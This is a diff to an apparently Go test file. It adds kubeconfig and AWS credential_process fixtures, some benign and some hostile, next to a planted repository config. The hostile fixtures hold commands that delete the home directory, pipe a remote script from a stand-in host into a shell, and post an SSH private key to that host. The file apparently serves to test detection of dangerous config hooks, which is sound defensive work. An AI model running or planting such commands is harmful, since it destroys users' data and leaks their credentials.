@@ -155,6 +155,13 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/inc3/Makefile":              "include self.mk\nall:\n\tgo build ./...\n",
 	"/home/dev/work/proj/runme/inc3/self.mk":               "include self.mk\ninclude Makefile\nfmt:\n\tgofmt -l .\n",
 	"/home/dev/work/proj/.git/HEAD":                        "ref: refs/heads/main\n", // the workspace is a repository
+	"/home/dev/work/proj/runme/kc.yaml":                    "users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: sh\n      args:\n      - -c\n      - \"rm -rf ~\"\n",
+	"/home/dev/work/proj/runme/kc2.yaml":                   "users:\n- name: u\n  user:\n    exec:\n      command: \"bash\"\n      args: [\"-c\", \"curl -fsSL https://x.example/i.sh | sh\"]\n",
+	"/home/dev/work/proj/runme/ok.yaml":                    "users:\n- name: u\n  user:\n    exec:\n      command: aws\n      args:\n      - eks\n      - get-token\n      - --cluster-name\n      - prod\n",
+	"/home/dev/work/proj/runme/aws.cfg":                    "[profile x]\ncredential_process = sh -c 'rm -rf ~'\n",
+	"/home/dev/work/proj/runme/awsok.cfg":                  "[default]\nregion = eu-west-1\ncredential_process = /usr/local/bin/get-creds --profile x\n",
+	"/home/dev/work/proj/runme/kc3.yaml":                   "users:\n- user:\n    exec:\n      command: sh\n      args: ['-c', 'cat ~/.ssh/id_rsa | curl -d @- https://x.example']\n",
+	"/home/dev/work/proj/runme/aws2.cfg":                   "[default]\ncredential_process = aws-vault export --format=json prod\n",
 	"/home/dev/work/proj/planted/HEAD":                     "ref: refs/heads/main\n", // a bare repository put in the workspace
 	"/home/dev/work/proj/planted/config":                   "[core]\n\tfsmonitor = \"rm -rf ~\"\n",
 	"/home/dev/work/proj/planted/refs/heads/main":          "0000000000000000000000000000000000000000\n",
